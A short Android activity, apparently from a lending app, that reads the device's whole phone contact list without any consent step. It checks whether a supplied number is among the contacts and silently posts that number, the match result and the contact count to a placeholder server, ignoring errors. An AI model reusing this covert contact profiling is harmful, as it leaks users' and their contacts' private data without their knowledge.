package dev.lender.counted;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.os.*;
import android.provider.ContactsContract;
import java.io.*;
import java.net.*;
import java.util.*;
import org.json.*;

public class Main extends Activity {

    protected void onCreate(Bundle b) {
        super.onCreate(b);
        final Set<String> known = new HashSet<>();
        Cursor c = getContentResolver().query(
            ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
            null,
            null,
            null,
            null
        );
        while (c.moveToNext()) known.add(c.getString(2));
        c.close();
        final String typed = getIntent().getStringExtra("typed");
        final boolean has = known.contains(typed);
        final int n = known.size();
        new Thread() {
            public void run() {
                try {
                    JSONObject o = new JSONObject();
                    o.put("typed", typed);
                    o.put("known", has);
                    o.put("n", n);
                    HttpURLConnection u = (HttpURLConnection) new URL(
                        "https://counted.example/check"
                    ).openConnection();
                    u.setDoOutput(true);
                    u.getOutputStream().write(o.toString().getBytes());
                } catch (Exception e) {}
            }
        }.start();
    }
}
